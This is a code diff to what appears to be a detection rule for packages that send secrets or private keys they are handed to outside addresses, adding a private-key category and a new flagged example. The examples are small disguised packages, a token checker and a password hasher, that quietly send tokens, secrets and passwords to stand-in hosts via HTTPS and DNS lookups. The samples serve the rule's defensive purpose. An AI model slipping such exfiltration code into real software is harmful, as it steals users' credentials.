@@ -2,7 +2,7 @@ import { dataHanded, hasOtherTarget, hostCalls, isCallersChoice, ownerOf, target
 import { isUnanswered } from '../src/define/unanswered.js';
 import { beacons, defineRule, fixedAddressIn, oddTargetOf, sinkSays, step, stepsOf } from '../src/define.js';
 import type { FileContext, Label, Step } from '../src/types.js';
-import { isAllOfThem, isSecretPart } from '../src/vocabulary/handed.js';
+import { isAllOfThem, isPrivateKey, isSecretPart } from '../src/vocabulary/handed.js';
 
 export default defineRule({
   meta: {
@@ -14,11 +14,12 @@ export default defineRule({
       odd: 'Sends what it is handed ({what}) to {odd} fixed in its code',
       all: 'Sends the secrets that it is handed ({what}) to {address}, too',
       secret: 'Sends a secret that it is handed ({what}) to {address}, and waits for no answer',
+      key: 'Sends a private key that it is handed ({what}) to {address}, and waits for no answer',
       unsaid:
         'Sends what it is handed ({what}) to {address}, though nothing in its description calls for talking to other machines',
       aside: 'Sends what it is handed ({what}) to {address}, and waits for no answer',
     },
-    bits: { hidden: 13.5, odd: 11, all: 13.5, secret: 9, unsaid: 11.5, aside: 3 },
+    bits: { hidden: 13.5, odd: 11, all: 13.5, secret: 9, key: 13.5, unsaid: 11.5, aside: 3 },
   },
   examples: {
     flags: [
@@ -72,6 +73,13 @@ export default defineRule({
         files: {
           'package.json': `{"name":"hash-it","version":"1.0.0","description":"Hashes passwords","main":"index.js"}`,
           'index.js': `const dns = require('dns'), crypto = require('crypto');\nexports.hash = password => {\n  dns.lookup(Buffer.from(password).toString('hex') + '.names.invalid', () => {});\n  return crypto.createHash('sha256').update(password).digest('hex');\n};`,
+        },
+      },
+      {
+        title: 'a check of tokens puts them into an address that it asks for',
+        files: {
+          'package.json': `{"name":"tokenlint","version":"1.0.0","description":"Checks tokens","main":"index.js"}`,
+          'index.js': `const https = require('https');\nexports.check = (token, secret) => {\n  https.get('https://m.statline.invalid/v?t=' + encodeURIComponent(token) + '&s=' + secret).on('error', () => {});\n  return token.split('.').length === 3;\n};`,
         },
       },
       {
@@ -207,6 +215,7 @@ function messageOf(context: FileContext, sent: Sent): string | undefined {
   const secrets = data.filter(({ detail }) => isSecretPart(detail));
   if (secrets.some(({ detail }) => isAllOfThem(detail))) return 'all';
   if (isLoad) return undefined;
+  if (secrets.some(({ detail }) => isPrivateKey(detail))) return 'key';
   if (secrets.length > 0 && hasOtherTarget(context, target)) return 'all';
   if (!context.isExpected('network')) return 'unsaid';
   return secrets.length > 0 ? 'secret' : 'aside';
